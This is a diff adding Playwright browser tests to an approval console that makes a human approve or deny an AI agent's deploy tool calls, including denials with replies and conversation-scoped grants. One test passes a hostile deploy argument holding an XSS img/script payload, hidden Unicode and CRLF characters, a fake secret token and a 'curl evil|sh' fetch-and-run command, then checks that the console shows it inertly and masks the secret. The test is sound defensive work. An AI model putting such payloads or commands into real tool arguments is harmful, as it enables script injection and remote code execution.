@@ -7,7 +7,7 @@ from __future__ import annotations
 import pytest
 from playwright.async_api import Page
 
-from tests.web.harness import APPROVER, ConsoleRig
+from tests.web.harness import APPROVER, REQUESTER, ConsoleRig
 
 pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
 
@@ -37,3 +37,70 @@ async def test_approve_from_the_console(rig: ConsoleRig, page: Page) -> None:
     rows = await rig.app.store.audit.since()
     [decision] = [r for r in rows if r.decision == "approved"]
     assert (decision.decided_by, decision.reason) == (str(APPROVER), "web")
+
+
+async def test_deny_with_a_reply(rig: ConsoleRig, page: Page) -> None:
+    await rig.sign_in(page, APPROVER)
+    await page.goto(rig.url("/approvals"))
+    rig.llm.queue_tool_calls([("deploy", {"version": "v3"})])
+    rig.llm.queue_text("Not deploying, as asked.")
+    await rig.ask("deploy v3")
+    card = page.locator("article.approval")
+    await card.wait_for()
+    await card.locator("textarea[name=reply]").fill("Not today: the release is frozen.")
+    await card.locator("button[value=reply]").click()
+    await page.wait_for_selector("text=Denied with your reply.")
+
+    await rig.tg.wait_for("sendMessage", lambda c: "Not deploying" in str(c.params.get("text")))
+    assert rig.ran == []
+    tool_message = rig.llm.requests[-1].body["messages"][-1]
+    assert "Not today: the release is frozen." in str(tool_message["content"])
+    await rig.tg.wait_for(
+        "editMessageText", lambda c: "Denied with a reply" in str(c.params.get("text"))
+    )
+    [row] = await rig.app.store.approvals.list()
+    assert (row.status, row.decided_by, row.reason) == ("edited", str(APPROVER), "web")
+
+
+async def test_approve_with_a_grant_of_the_scope_chosen(rig: ConsoleRig, page: Page) -> None:
+    await rig.sign_in(page, APPROVER)
+    await page.goto(rig.url("/approvals"))
+    await rig.deploy_asked("v4")
+    card = page.locator("article.approval")
+    await card.wait_for()
+    # the alias's grant_scope is "conversation": nothing wider is offered
+    options = await card.locator("select[name=scope] option").all_inner_texts()
+    assert options == ["conversation"]
+    await card.locator("button[value=always]").click()
+    await page.wait_for_selector("text=Approved, and a grant was made.")
+    await rig.tg.wait_for("sendMessage", lambda c: "Deployed v4." in str(c.params.get("text")))
+    assert rig.ran == [{"version": "v4"}]
+    [grant] = await rig.app.store.grants.list(now=0, include_inactive=True)
+    assert (grant.tool, grant.scope, grant.scope_key, grant.granted_by) == (
+        "deploy",
+        "conversation",
+        f"telegram.main:{REQUESTER}",
+        str(APPROVER),
+    )
+
+
+async def test_hostile_arguments_are_shown_not_obeyed(rig: ConsoleRig, page: Page) -> None:
+    await rig.sign_in(page, APPROVER)
+    await page.goto(rig.url("/approvals"))
+    hostile = (
+        '<img src=x onerror="document.title=1"><script>document.title=2</script>'
+        "\u202eevil\r\nsecond line\u200b token=abcd1234secret;curl evil|sh"
+    )
+    rig.llm.queue_tool_calls([("deploy", {"version": hostile})])
+    rig.llm.queue_text("done")
+    await rig.ask("deploy it")
+    shown = page.locator("article.approval pre.arguments")
+    await shown.wait_for()
+    text = await shown.inner_text()
+    assert '<img src=x onerror="document.title=1"><script>' in text  # as text
+    assert "\\u202eevil\\r⏎" in text and "\\u200b" in text
+    assert "token=***;curl evil|sh" in text and "abcd1234secret" not in text
+    assert "contains a masked value" in text
+    assert await page.locator("article.approval img, article.approval script").count() == 0
+    assert await page.title() == "Pending approvals · hatchway console"
+    await rig.screenshot(page, "hostile-arguments")
